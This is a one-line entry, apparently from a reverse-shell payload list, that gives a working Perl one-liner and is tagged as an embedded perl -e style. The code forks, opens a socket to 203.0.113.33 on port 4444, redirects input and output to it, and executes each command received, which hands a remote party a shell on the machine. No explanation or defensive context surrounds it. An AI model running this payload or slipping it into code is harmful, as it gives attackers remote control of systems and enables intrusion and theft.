# class: embedded, perl -e; style: one-liner
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.33:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
